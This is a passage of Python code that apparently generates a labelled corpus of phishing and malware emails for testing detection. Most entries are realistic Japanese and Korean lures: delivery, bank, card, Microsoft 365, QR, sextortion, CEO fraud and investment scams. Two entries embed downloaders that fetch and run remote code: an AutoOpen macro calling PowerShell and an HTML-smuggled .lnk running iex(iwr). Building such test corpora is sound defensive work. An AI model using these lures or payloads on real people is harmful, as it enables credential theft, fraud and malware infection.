        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body, ctry="HK"))


def p_japanpost() -> None:
    stem = "b38-phish-japanpost-redelivery"
    rcpt = "misaki.kondo0722@gmail.com"
    sent = T(2024, 12, 10, 14, 55, 9, 9)
    dom = "yrdxk.com"
    url = "https://japanpost.jp-redelivery.nbkwx.top/saihaitatsu/?n=" + tok(stem, 12, DIGITS)
    plain = f"""日本郵便をご利用いただきありがとうございます。

お客様宛にお荷物のお届けにあがりましたが、ご不在のため持ち帰りました。
また、お届け先のご住所に不備があるため、配達員がお届けできない状態です。

下記URLより、お届け先情報の確認と再配達のお申し込みをお願いいたします。

{url}

お問い合わせ番号：{tok(stem + 'n', 4, DIGITS)}-{tok(stem + 'n2', 4, DIGITS)}-{tok(stem + 'n3', 4, DIGITS)}
保管期限：2024年12月13日

※保管期限を過ぎたお荷物は差出人様へ返送されます。
※再配達のお申し込みには、住所確認手数料（220円）がかかります。

日本郵便株式会社
"""
    hdr = H(
        f"Received: from localhost (unknown [127.0.0.1])\n\tby smtp.{dom} (Postfix) with ESMTP id {tok(stem + 'q', 10, UHEX)};\n\t{rfc(sent, 9, pad=False)}",
        f"From: {addr('日本郵便株式会社', 'notice@' + dom, 'ISO-2022-JP')}",
        f"To: {rcpt}",
        subj("【日本郵便】ご不在のため荷物を持ち帰りました", "ISO-2022-JP"),
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 12, DIGITS)}.{tok(stem + 'm2', 8, UHEX)}@smtp.{dom}>",
    )
    src = Src(f"smtp.{dom}", "47.242.151.9", f"notice@{dom}", dom, "pass", [], dmarc=None)
    body = text(plain, "plain", "7bit", "iso-2022-jp")
    add(stem, "phish", "phishing",
        "Japan Post 'missed delivery / address problem, 220 yen fee' lure, ISO-2022-JP text from throwaway yrdxk.com, link to japanpost.jp-redelivery.nbkwx.top",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body))


def p_yamato_compromised() -> None:
    stem = "b38-phish-yamato-address"
    rcpt = "k-yamamoto@kitamura-seiki.co.jp"
    sent = T(2025, 6, 3, 17, 41, 2, 9)
    dom = "sakura-dental-kobe.jp"
    url = "https://kuronekoyamato.co.jp.address-fix.vip/ytc/customer/?slip=" + tok(stem, 12, DIGITS)
    html = f"""<html><head><meta charset="UTF-8"></head><body>
<div style="font-family:Meiryo,sans-serif;font-size:14px;line-height:1.8;color:#333;width:600px;">
<p style="background:#ffcc00;padding:10px 16px;font-weight:bold;margin:0;">クロネコヤマト ヤマト運輸</p>
<p>いつもヤマト運輸をご利用いただき、ありがとうございます。</p>
<p>お客様宛のお荷物をお届けに伺いましたが、お届け先のご住所が不完全なため、配達を完了することができませんでした。</p>
<table style="border-collapse:collapse;margin:12px 0;" border="1" cellpadding="6">
<tr><td style="background:#f5f5f5;">伝票番号</td><td>{tok(stem + 's', 4, DIGITS)}-{tok(stem + 's2', 4, DIGITS)}-{tok(stem + 's3', 4, DIGITS)}</td></tr>
<tr><td style="background:#f5f5f5;">お荷物の状態</td><td>住所不明のため営業所保管中</td></tr>
<tr><td style="background:#f5f5f5;">保管期限</td><td>2025年6月5日</td></tr>
</table>
<p>下記よりお届け先住所の確認・修正をお願いいたします。</p>
<p><a href="{url}">お届け先住所を確認する</a></p>
<p style="font-size:12px;color:#888;">ヤマト運輸株式会社<br>※このメールは配信専用です。</p>
</div></body></html>
"""
    hdr = H(
        dkim(dom, "default", "from:to:subject:date:message-id:mime-version:content-type", sent, stem),
        f"Received: from [{'193.29.13.' + str(num(stem, 2, 250))}] (unknown [193.29.13.{num(stem, 2, 250)}])\n"
        f"\t(Authenticated sender: info@{dom})\n\tby sv{num(stem + 'sv', 1000, 9999)}.xserver.jp (Postfix) with ESMTPSA id {tok(stem + 'q', 10, UHEX)};\n\t{rfc(sent, 9, pad=False)}",
        f"From: {addr('ヤマト運輸', 'info@' + dom)}",
        f"To: {rcpt}",
        subj("【ヤマト運輸】お届け先住所の確認のお願い"),
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 32)}@{dom}>",
        "X-Mailer: Microsoft Outlook 16.0",
    )
    src = Src(f"sv{num(stem + 'sv', 1000, 9999)}.xserver.jp", "183.90.237.14", f"info@{dom}", dom, "pass",
              [(dom, "default", "pass")], dmarc="bestguesspass")
    body = html_only(html)
    add(stem, "phish", "phishing",
        "Yamato Transport 'address incomplete, parcel held' lure sent from a compromised dental-clinic mailbox (SPF/DKIM pass), link to kuronekoyamato.co.jp.address-fix.vip",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


def p_mufg_qr() -> None:
    stem = "b38-phish-mufg-qr"
    rcpt = "misaki.kondo0722@gmail.com"
    sent = T(2024, 9, 19, 11, 9, 50, 8)
    dom = "bk-mufg-jp.com"
    qr_url = "https://mufg-kakunin.bk-jp.cc/m/?id=" + tok(stem, 10, LOWER)
    cid = f"{tok(stem + 'cid', 16)}@{dom}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Meiryo,sans-serif;color:#333;">
<table width="600" align="center" cellpadding="0" cellspacing="0">
<tr><td style="border-top:4px solid #e60000;padding:14px 0;font-size:18px;font-weight:bold;">三菱UFJ銀行</td></tr>
<tr><td style="font-size:14px;line-height:1.8;padding:10px 0;">
いつも三菱UFJ銀行をご利用いただき、誠にありがとうございます。<br><br>
当行では、マネー・ローンダリングおよびテロ資金供与対策の一環として、
お客さまのお取引目的・ご職業等の確認をお願いしております。<br><br>
セキュリティ強化のため、本手続きは<b>スマートフォンからのみ</b>受け付けております。
お手数ですが、下記のQRコードをスマートフォンのカメラで読み取り、お手続きをお願いいたします。<br><br>
</td></tr>
<tr><td align="center" style="padding:10px 0 20px 0;"><img src="cid:{cid}" width="180" height="180" alt="QRコード"></td></tr>
<tr><td style="font-size:14px;line-height:1.8;">
回答期限：2024年9月26日<br>
期限までにご回答いただけない場合、ATM・インターネットバンキングでのお取引を制限させていただきます。<br><br>
</td></tr>
<tr><td style="font-size:11px;color:#888;border-top:1px solid #ddd;padding-top:10px;">
株式会社三菱UFJ銀行<br>本メールは送信専用アドレスから送信しております。</td></tr>
</table></body></html>
"""
    hdr = H(
        dkim(dom, "s2024", "from:to:subject:date:message-id", sent, stem),
        f"From: {addr('三菱UFJ銀行', 'info@' + dom)}",
        f"To: {rcpt}",
        subj("【三菱UFJ銀行】お取引目的等の確認について（スマートフォンでのお手続き）"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom, 'uuid')}",
    )
    src = Src(f"smtp.{dom}", "45.77.30.115", f"info@{dom}", dom, "pass", [(dom, "s2024", "pass")], dmarc=None)
    body = Multi("related", f"----=_Part_{tok(stem + 'b', 6, DIGITS)}_{tok(stem + 'b2', 9, DIGITS)}", [
        text(html, "html", "base64"),
        Leaf("image/png", files.qr_png(qr_url), "base64", '; name="qr.png"', 'inline; filename="qr.png"',
             [f"Content-ID: <{cid}>"]),
    ], '\n\ttype="text/html";')
    add(stem, "phish", "phishing",
        "MUFG Bank 'confirm purpose of transactions, smartphone only' quishing lure: QR code image leads to mufg-kakunin.bk-jp.cc, sender look-alike bk-mufg-jp.com",
        deliver(rcpt, sent + timedelta(seconds=5), src, stem, hdr, body))


def p_docomo_dpoint() -> None:
    stem = "b38-phish-docomo-dpoint"
    rcpt = "yuki.tanaka1987@gmail.com"
    sent = T(2025, 8, 21, 20, 30, 18, 8)
    dom = "smbnt.cn"
    url = "https://dpoint.docomo.ne.jp.pt-get.cfd/member/?u=" + tok(stem, 10, LOWER)
    paras = [
        "いつもドコモをご利用いただき、ありがとうございます。",
        "お客様がお持ちの<b>dポイント（期間・用途限定）4,820ポイント</b>が、2025年8月31日に有効期限を迎えます。",
        "有効期限を過ぎたポイントは失効し、ご利用いただけなくなります。"
        "下記よりdアカウントにログインいただくと、失効前のポイントをお支払いに充当、または他社ポイントへ交換いただけます。",
        "※交換手続きにはdアカウントのIDとパスワード、ご本人様確認のためクレジットカード情報が必要です。",
    ]
    html = kit_html("dポイントクラブ", "docomo dポイントクラブ", "#cc0033", paras, "ポイントを確認する", url,
                    ["株式会社NTTドコモ", "本メールは送信専用です。"])
    hdr = H(
        f"From: {addr('NTTドコモ', 'dpoint-info@' + dom)}",
        f"To: {rcpt}",
        subj("【ドコモ】dポイント失効のお知らせ（4,820pt / 8月31日まで）"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom)}",
        "X-Mailer: Foxmail 7.2.23.121[cn]",
    )
    src = Src(f"mail.{dom}", "116.62.201.75", f"dpoint-info@{dom}", dom, "softfail", [], dmarc=None)
    body = html_only(html)
    add(stem, "phish", "phishing",
        "Mobile-carrier lure: NTT docomo 'd POINT about to expire' mail from smbnt.cn asking for d-account login and card details at dpoint.docomo.ne.jp.pt-get.cfd",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body))


def p_m365_jp() -> None:
    stem = "b38-phish-m365-jp-pwexpiry"
    rcpt = "m-sasaki@kitamura-seiki.co.jp"
    sent = T(2025, 7, 8, 9, 12, 31, 9)
    dom = "hokuyo-kenzai.co.jp"
    url = f"https://ms365-auth-jp.pages.dev/#{rcpt}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:'Segoe UI','Yu Gothic UI',Meiryo,sans-serif;">
<table width="560" cellpadding="0" cellspacing="0" style="border:1px solid #e1e1e1;">
<tr><td style="padding:20px 24px;"><span style="font-size:18px;color:#737373;">Microsoft 365</span></td></tr>
<tr><td style="padding:0 24px;font-size:22px;color:#2f2f2f;">パスワードの有効期限のお知らせ</td></tr>
<tr><td style="padding:18px 24px;font-size:14px;color:#2f2f2f;line-height:1.7;">
{rcpt} のパスワードは本日 <b>2025/07/08</b> に有効期限が切れます。<br>
引き続き Outlook、Teams、OneDrive をご利用いただくには、現在のパスワードを維持する必要があります。<br><br>
<a href="{url}" style="background:#0067b8;color:#fff;padding:10px 22px;text-decoration:none;">現在のパスワードを維持する</a><br><br>
このリクエストを行わなかった場合、アカウントはサインインできなくなります。
</td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#737373;background:#f2f2f2;">
このメッセージは kitamura-seiki.co.jp の管理者によって送信されました。<br>
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr>
</table></body></html>
"""
    hdr = H(
        dkim(dom, "default", "from:to:subject:date:message-id:mime-version:content-type", sent, stem),
        f"Received: from [{'91.92.243.' + str(num(stem, 2, 250))}] (unknown [91.92.243.{num(stem, 2, 250)}])\n"
        f"\t(Authenticated sender: eigyo@{dom})\n\tby sv{num(stem + 'sv', 1000, 9999)}.xserver.jp (Postfix) with ESMTPSA id {tok(stem + 'q', 10, UHEX)};\n\t{rfc(sent, 9, pad=False)}",
        f"From: {addr('Microsoft 365 管理センター', 'eigyo@' + dom)}",
        f"To: {rcpt}",
        subj(f"パスワードの有効期限が本日切れます - {rcpt}"),
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 24, LOWER)}@{dom}>",
    )
    src = Src(f"sv{num(stem + 'sv', 1000, 9999)}.xserver.jp", "183.90.232.201", f"eigyo@{dom}", dom, "pass",
              [(dom, "default", "pass")], dmarc="pass")
    body = html_only(html, enc="base64")
    add(stem, "phish", "phishing",
        "Microsoft 365 'password expires today, keep current password' lure to a company user, sent from a compromised Japanese building-materials mailbox, link to ms365-auth-jp.pages.dev with the victim's address in the fragment",
        deliver(rcpt, sent + timedelta(seconds=4), src, stem, hdr, body))


def p_sextortion_jp() -> None:
    stem = "b38-phish-sextortion-jp"
    rcpt = "misaki.kondo0722@gmail.com"
    sent = T(2024, 10, 14, 3, 27, 51, -3)
    plain = """こんにちは！

残念なお知らせがあります。
数か月前、あなたがインターネットを閲覧するために使用しているデバイスにアクセスしました。
その後、あなたのインターネット上のすべての活動を追跡してきました。

あなたのアカウントのパスワードはすでに私の手元にあります。
このメールもあなたのアカウントから送信されていることに気付いたでしょう。

私はあなたのデバイスにトロイの木馬を仕込み、カメラとマイクを起動できるようにしました。
あなたがアダルトサイトを閲覧している様子をすべて録画しています。

この動画をあなたの連絡先（家族、友人、同僚）全員に送信するのはボタンひとつです。

それを望まないなら、1,500 USD 相当のビットコインを下記のアドレスに送金してください。

BTCアドレス： bc1q7m3xk2v9r5ht0wzq4l8ny6d2fjp3c8ys5ua0ne

送金方法がわからない場合は「ビットコイン 購入」で検索してください。

このメールを開封した時点でタイマーが作動しています。48時間以内に支払いが確認できない場合、
動画を公開します。支払いが確認できれば、すべてのデータを削除し、二度と連絡しません。

警察に相談しても無駄です。私を追跡することはできません。
"""
    hdr = H(
        f"From: {addr('近藤 美咲', rcpt)}",
        f"To: {rcpt}",
        subj("アカウントがハッキングされました。至急ご確認ください。"),
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 20, DIGITS)}@gmail.com>",
    )
    src = Src("mail.clickbrasil.net.br", "177.54.148.219", rcpt, "gmail.com", "softfail", [], dmarc="fail",
              policy="NONE", rdns="177-54-148-219.clickbrasil.net.br", tls=False)
    body = text(plain, "plain", "base64", "utf-8")
    add(stem, "phish", "phishing",
        "Japanese sextortion: forged From = the victim's own Gmail address (SPF softfail, DMARC fail), claims device hack and webcam video, demands 1,500 USD in bitcoin",
        deliver(rcpt, sent + timedelta(seconds=11), src, stem, hdr, body))


def p_ceo_line_group() -> None:
    stem = "b38-phish-ceo-line-group"
    rcpt = "m-sasaki@kitamura-seiki.co.jp"
    sent = T(2025, 3, 4, 10, 48, 13, 9)
    frm_addr = "kitamura.satoshi.office@gmail.com"
    plain = """佐々木さん

お疲れ様です。北村です。

現在、新規事業に関する緊急の案件を進めております。
この件について、社内の担当者とLINEでやり取りをしたいので、
LINEグループを作成していただき、グループのQRコードをこのメールに返信してください。

なお、本件はまだ社外秘の段階ですので、他の社員には共有しないようにお願いします。
私は会議中で電話に出られませんので、メールでご対応ください。

よろしくお願いします。

北村 聡
"""
    html = "<div dir=\"ltr\">" + "<br>".join(plain.rstrip("\n").split("\n")) + "</div>\n"
    mid = gmail_mid(stem)
    hdr = gmail_sender(stem, sent, addr("北村 聡", frm_addr), rcpt, subj("【至急】業務のご依頼"), mid)
    src = Src("mail-pj1-f54.google.com", "209.85.216.54", frm_addr, "gmail.com", "pass",
              [("gmail.com", "20230601", "pass")], dmarc="pass", policy="NONE")
    body = alt(plain, html, f"000000000000{tok(stem + 'bd', 16)}", penc="base64", henc="base64")
    add(stem, "phish", "phishing",
        "CEO fraud (Japan 2025 wave): company president impersonated from a Gmail address asks accounting to create a LINE group and send its QR code, secret and 'in a meeting'",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body, ctry="US"))


def p_ppap_docm() -> None:
    stem = "b38-phish-ppap-docm-hijack"
    rcpt = "keiri@aoba-logi.co.jp"
    sent = T(2025, 3, 11, 14, 22, 5, -3)
    password = "ZT7402"
    macro = ("Attribute VB_Name = \"ThisDocument\"\n"
             "Sub AutoOpen()\n"
             "    Dim s As String\n"
             "    s = \"powershell -w hidden -ep bypass -c \"\"iwr hxxp://89.190.156.44/inv/a.dll -o $env:TEMP\\\\sys.dll; "
             "rundll32 $env:TEMP\\\\sys.dll,DllRegisterServer\"\"\"\n"
             "    CreateObject(\"WScript.Shell\").Run s, 0\n"
             "End Sub\n")
    docm = files.docx(["請求書 2025年3月分", "本文書を表示するには「編集を有効にする」「コンテンツの有効化」をクリックしてください。"],
                      "請求書", "user", macro=macro)
    zname = "請求書_20250311.zip"
    zdata = zip_crypto("請求書_20250311.docm", docm, password, stem)
    plain = f"""経理部
ご担当者様

お世話になっております。東海パッケージの鈴木です。

3月分のご請求書を送付いたします。
添付ファイルをご確認ください。

ファイル名：{zname}
パスワード：{password}

よろしくお願いいたします。

-----Original Message-----
From: 経理部 <keiri@aoba-logi.co.jp>
Sent: Tuesday, February 25, 2025 4:12 PM
To: 鈴木 浩二 <k-suzuki@tokai-packaging.co.jp>
Subject: RE: 2月分ご請求書の件

鈴木様

いつもお世話になっております。青葉ロジスティクス経理部です。
2月分のご請求書、確かに受領いたしました。
3月末日にお振込みの予定です。

引き続きよろしくお願いいたします。
"""
    hdr = H(
        f"Received: from [{'185.212.47.' + str(num(stem, 2, 250))}] (unknown [185.212.47.{num(stem, 2, 250)}])\n"
        f"\tby mail.ventasdelsur.com.ar (Postfix) with ESMTPSA id {tok(stem + 'q', 10, UHEX)};\n\t{rfc(sent, -3, pad=False)}",
        f"From: {_ew1('鈴木 浩二 ', 'ISO-2022-JP', 'B')}\n {_ew1('<k-suzuki@tokai-packaging.co.jp>', 'ISO-2022-JP', 'B')}"
        " <ventas@ventasdelsur.com.ar>",
        f"To: {addr('経理部', rcpt, 'ISO-2022-JP')}",
        subj("RE: 2月分ご請求書の件", "ISO-2022-JP"),
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 12, DIGITS)}.{tok(stem + 'm2', 16, UHEX)}@ventasdelsur.com.ar>",
        f"In-Reply-To: <TYCPR01MB{num(stem + 'ir', 4000, 9999)}{tok(stem + 'ir2', 32, UHEX)}@TYCPR01MB{num(stem + 'ir', 4000, 9999)}.jpnprd01.prod.outlook.com>",
        "X-Mailer: Microsoft Outlook 16.0",
    )
    src = Src("mail.ventasdelsur.com.ar", "200.58.112.73", "ventas@ventasdelsur.com.ar", "ventasdelsur.com.ar",
              "pass", [], dmarc=None)
    body = mixed(f"----=_NextPart_000_{tok(stem + 'b', 4, UHEX)}_01DB{tok(stem + 'b2', 4, UHEX)}.{tok(stem + 'b3', 8, UHEX)}",
                 text(plain, "plain", "7bit", "iso-2022-jp"),
                 att("application/x-zip-compressed", zname, zdata, "ISO-2022-JP"))
    add(stem, "phish", "malware",
        "Emotet-style thread hijack: reply to a real invoice thread, display name shows the supplier but the address is a compromised .com.ar mailbox; password 'PPAP' zip holds a macro .docm that runs PowerShell",
        deliver(rcpt, sent + timedelta(seconds=8), src, stem, hdr, body))


def p_html_smuggling() -> None:
    stem = "b38-phish-html-smuggling-invoice"
    rcpt = "k-yamamoto@kitamura-seiki.co.jp"
    sent = T(2025, 6, 12, 13, 3, 44, 9)
    dom = "minato-shoji-co.jp"
    lnk = files.lnk_shortcut(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                             "-w h -nop -c \"$u='https://cdn-invoice-jp.b-cdn.net/s.ps1';iex(iwr $u -UseBasicParsing)\"")
    inner = files.zip_archive([("請求書_2025年6月分.pdf.lnk", lnk)])
    payload = base64.b64encode(inner).decode()
    chunks = "\n".join(f"'{payload[i:i + 76]}'+" for i in range(0, len(payload), 76))
    page = f"""<!DOCTYPE html>
<html lang="ja"><head><meta charset="utf-8"><title>請求書 - Adobe Acrobat</title></head>
<body style="font-family:Meiryo,sans-serif;background:#f0f0f0;text-align:center;padding-top:80px;">
<div style="background:#fff;width:420px;margin:0 auto;padding:30px;border:1px solid #ccc;">
<p style="font-size:16px;">ドキュメントを準備しています...</p>
<p style="font-size:13px;color:#666;">ダウンロードが開始されない場合は<a id="r" href="#">こちら</a>をクリックしてください。</p>
</div>
<script>
var d=
{chunks}
'';
function b(x){{var s=atob(x),a=new Uint8Array(s.length);for(var i=0;i<s.length;i++)a[i]=s.charCodeAt(i);return a;}}
var f=new Blob([b(d)],{{type:'application/octet-stream'}});
var l=document.createElement('a');l.href=URL.createObjectURL(f);l.download='請求書_2025年6月分.zip';
document.body.appendChild(l);l.click();document.getElementById('r').onclick=function(){{l.click();}};
</script>
</body></html>
"""
    plain = """山本様

いつもお世話になっております。
株式会社ミナト商事 経理部の井上でございます。

2025年6月分のご請求書を送付いたします。
添付ファイルをご確認のうえ、期日までにお支払いくださいますよう
お願い申し上げます。

※セキュリティの都合上、請求書はブラウザで開く形式にて送付しております。

何卒よろしくお願いいたします。

━━━━━━━━━━━━━━━━━
株式会社ミナト商事 経理部
井上 直樹
TEL：03-5765-2210
━━━━━━━━━━━━━━━━━
"""
    hdr = H(
        dkim(dom, "mail", "from:to:subject:date:message-id:mime-version", sent, stem),
        f"From: {addr('株式会社ミナト商事 経理部', 'keiri@' + dom)}",
        f"To: {addr('山本 健太', rcpt)}",
        subj("【請求書送付】2025年6月分のご請求について"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom, 'uuid')}",
    )
    src = Src(f"mail.{dom}", "5.181.159.23", f"keiri@{dom}", dom, "pass", [(dom, "mail", "pass")],
              dmarc="bestguesspass")
    body = mixed(f"----=_Part_{tok(stem + 'b', 6, DIGITS)}_{tok(stem + 'b2', 9, DIGITS)}.{tok(stem + 'b3', 13, DIGITS)}",
                 text(plain, "plain", "base64"),
                 att("text/html", "請求書_2025年6月分.html", page.encode("utf-8"), body_charset="UTF-8"))
    add(stem, "phish", "malware",
        "Invoice from look-alike minato-shoji-co.jp (real partner is minato-shoji.co.jp) with an HTML attachment that smuggles a zip holding a .pdf.lnk PowerShell downloader",
        deliver(rcpt, sent + timedelta(seconds=4), src, stem, hdr, body, ctry="NL"))


def p_invest_line_jp() -> None:
    stem = "b38-phish-jp-invest-line"
    rcpt = "kenji.watanabe.fx@gmail.com"
    sent = T(2024, 6, 18, 19, 0, 4, 9)
    dom = "kabu-kenkyukai.net"
    lp = f"https://{dom}/lp/ai-kabu/?utm_source=mail&utm_medium=mag&utm_campaign=0618&uid={tok(stem, 10, LOWER)}"
    html = f"""<html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#fff8e7;">
<div style="max-width:600px;margin:0 auto;font-family:'Hiragino Sans',Meiryo,sans-serif;color:#222;font-size:15px;line-height:1.9;">
<p style="background:#0b2a5b;color:#ffd700;font-size:20px;font-weight:bold;text-align:center;padding:16px;margin:0;">【完全無料】AI株式投資 特別招待</p>
<p>渡辺 様</p>
<p>こんばんは。株式投資研究会 事務局です。</p>
<p>元大手証券ファンドマネージャーで経済アナリストの<b>高橋誠一先生</b>が、今月限定で
<b>LINEグループにて注目銘柄を無料配信</b>しております。</p>
<p>先月の推奨銘柄は<b style="color:#d00;">平均+38.6%</b>を記録。参加者からは「たった1か月で200万円の利益が出た」との声も。</p>
<p>▼ 今月の注目銘柄3選（AI分析済み）を今すぐ受け取る ▼</p>
<p style="text-align:center;"><a href="{lp}" style="display:inline-block;background:#06c755;color:#fff;font-weight:bold;padding:14px 40px;border-radius:30px;text-decoration:none;">LINEで無料参加する</a></p>
<p style="font-size:13px;">※参加枠は先着100名様。定員になり次第締め切ります。<br>
※グループ参加後、アシスタントより個別にご案内いたします。</p>
<p style="font-size:11px;color:#888;">配信停止は<a href="https://{dom}/unsubscribe?u={tok(stem, 10, LOWER)}">こちら</a><br>株式投資研究会 事務局</p>
</div></body></html>
"""
    hdr = H(
        dkim(dom, "s1", "from:to:subject:date:message-id:mime-version:list-unsubscribe", sent, stem),
        dkim("sendgrid.info", "smtpapi", "from:to:subject:date:message-id", sent, stem + "sg"),
        f"From: {addr('株式投資研究会 事務局', 'info@' + dom)}",
        f"To: {rcpt}",
        subj("【無料招待】高橋誠一先生の株式投資LINEグループ｜今月の注目銘柄3選"),
        f"Date: {rfc(sent, 0)}",
        f"Message-ID: <{tok(stem + 'm', 22, URLSAFE)}@geopod-ismtpd-{num(stem, 1, 40)}>",
        f"List-Unsubscribe: <https://{dom}/unsubscribe?u={tok(stem, 10, LOWER)}>",
    )
    src = Src(f"o{num(stem + 'o', 1, 30)}.ptr{num(stem + 'p', 1000, 9999)}.{dom}", "149.72.133.41",
              f"bounces+{num(stem, 1000000, 9999999)}-{tok(stem + 'bb', 4)}-{rcpt.replace('@', '=')}@em{num(stem, 100, 999)}.{dom}",
              dom, "pass", [(dom, "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], dmarc="pass")
    body = html_only(html, enc="quoted-printable")
    add(stem, "phish", "phishing",
        "Investment scam: 'free AI stock-pick LINE group' with a fictitious star analyst and +38.6% returns, sent through SendGrid from kabu-kenkyukai.net to recruit victims into a LINE group",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


def p_box_compromised_partner() -> None:
    stem = "b38-phish-box-share-compromised"
    rcpt = "t-ishikawa@aoba-logi.co.jp"
    sent = T(2025, 9, 16, 15, 37, 20, 9)
    dom = "minato-shoji.co.jp"
    box = f"https://app.box.com/s/{tok(stem + 'box', 32, LOWER)}"
    plain = f"""石川様

いつも大変お世話になっております。
ミナト商事の井上です。

2025年度下期の取引条件変更に関する資料一式をBoxにて共有いたしました。
お手数ですが、下記リンクよりご確認いただけますと幸いです。

{box}

※閲覧には御社のメールアドレスでのサインインが必要となります。
ご不明な点がございましたら、お気軽にお申し付けください。

何卒よろしくお願い申し上げます。

---------------------------------------
株式会社ミナト商事
営業本部 営業二課
井上 直樹（Naoki Inoue）
〒105-0022 東京都港区海岸1-9-18
TEL：03-5765-2201 / FAX：03-5765-2209
---------------------------------------
"""
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=iso-2022-jp\"></head><body>"
            "<div style=\"font-family:游ゴシック,sans-serif;font-size:11pt;\">"
            + plain.replace("\n", "<br>\n").replace(box, f'<a href="{box}">{box}</a>') + "</div></body></html>\n")
    mid = outlook_mid(stem, "jp")
    hdr = outlook_sender(stem, sent, addr("井上 直樹", f"n-inoue@{dom}", "ISO-2022-JP"),
                         addr("石川 拓也", rcpt, "ISO-2022-JP"),
                         subj("【ご確認依頼】2025年度下期 取引条件変更のご案内", "ISO-2022-JP"), mid, dom,
                         topic=ew("【ご確認依頼】2025年度下期 取引条件変更のご案内", "ISO-2022-JP"))
    src = Src(f"TY3P286CU002.outbound.protection.outlook.com", "52.101.229.83", f"n-inoue@{dom}", dom, "pass",
              [(dom, "selector1", "pass")], dmarc="pass", rdns="mail-japaneastazon11010083.outbound.protection.outlook.com")
    body = alt(plain, html, f"_000_{mid[1:40]}_", charset="iso-2022-jp", penc="7bit", henc="quoted-printable")
    add(stem, "phish", "phishing",
        "Compromised partner mailbox (all authentication passes): a real trading partner's Outlook account shares a Box link to 'new trading terms' that leads to a sign-in page; the only tell is the unexpected request to sign in with the company address",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body))


def p_sagawa_sjis() -> None:
    stem = "b38-phish-sagawa-redelivery"
    rcpt = "misaki.kondo0722@gmail.com"
    sent = T(2025, 10, 2, 12, 16, 33, 8)
    dom = "sagawa-exp.ghyr.top"
    url = f"https://sagawa-exp.ghyr.top/?t={tok(stem, 12, DIGITS)}"
    plain = f"""佐川急便をご利用いただき、ありがとうございます。

お客様宛にお荷物のお届けにあがりましたが、不在のため持ち帰りました。
配送物は保管期限を過ぎると差出人様に返送いたします。

再配達のお申し込みは、下記URLより受付いたします。

{url}

■お問い合せ送り状番号：{tok(stem + 'n', 12, DIGITS)}
■保管期限：10月4日

※このメールは送信専用のため、ご返信いただけません。

佐川急便株式会社
"""
    hdr = H(
        f"From: {addr('佐川急便', 'info@' + dom, 'Shift_JIS')}",
        f"To: {rcpt}",
        subj("【佐川急便】お荷物のお届けについて（再配達のご依頼）", "Shift_JIS"),
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 16, UHEX)}@{dom}>",
        "X-Mailer: Microsoft Outlook Express 6.00.2900.5931",
    )
    src = Src(dom, "23.225.161.40", f"info@{dom}", dom, "pass", [], dmarc=None)
    body = text(plain, "plain", "base64", "shift_jis")
    add(stem, "phish", "phishing",
        "Sagawa Express 'missed delivery, re-delivery request' lure in Shift_JIS plain text, sender and link on sagawa-exp.ghyr.top",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


JP_ATTACKS = [p_smbc_card, p_aeon_spoof, p_jcb_iso2022, p_rakuten_card, p_amazon_prime, p_sbi_securities,
              p_rakuten_sec, p_nomura_sjis, p_etc_meisai, p_etax_nta, p_japanpost, p_yamato_compromised, p_mufg_qr,
              p_docomo_dpoint, p_m365_jp, p_sextortion_jp, p_ceo_line_group, p_ppap_docm, p_html_smuggling,
              p_invest_line_jp, p_box_compromised_partner, p_sagawa_sjis]

# ---------------------------------------------------------------------------
# ATTACKS — Korea
# ---------------------------------------------------------------------------


def p_kb_bank() -> None:
    stem = "b38-phish-kb-bank-otp"
    rcpt = "jiwoo.park88@naver.com"
    sent = T(2024, 10, 22, 9, 40, 17, 9)
    dom = "kbstar-secure.com"
    url = "https://obank.kbstar.com.otp-reauth.cc/quics?page=C025255&cc=" + tok(stem, 10, LOWER)
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=euc-kr"></head>
<body>
<table width="620" align="center" cellpadding="0" cellspacing="0" style="font-family:'맑은 고딕','돋움',sans-serif;font-size:13px;color:#333;">
<tr><td style="background:#ffbc00;padding:14px 20px;font-size:18px;font-weight:bold;color:#60584c;">KB국민은행</td></tr>
<tr><td style="padding:24px 20px;line-height:1.8;">
<b>박지우</b> 고객님, 안녕하십니까.<br>
항상 KB국민은행을 이용해 주셔서 감사합니다.<br><br>
최근 금융사기(보이스피싱, 메모리해킹) 피해가 급증함에 따라, 금융감독원 권고에 의거하여
<b>전자금융거래 보안강화(OTP 재인증)</b>를 시행하고 있습니다.<br><br>
아래 기한까지 보안 재인증을 완료하지 않으신 고객님은 인터넷뱅킹 및 KB스타뱅킹 이체 서비스가
<span style="color:#d00000;font-weight:bold;">일시 중지</span>될 수 있습니다.<br><br>
- 재인증 기한 : 2024년 10월 25일(금)<br>
- 대상 : OTP 또는 보안카드 이용 고객<br><br>
<a href="{url}" style="display:inline-block;background:#60584c;color:#fff;padding:12px 40px;text-decoration:none;">보안 재인증 바로가기</a>
</td></tr>
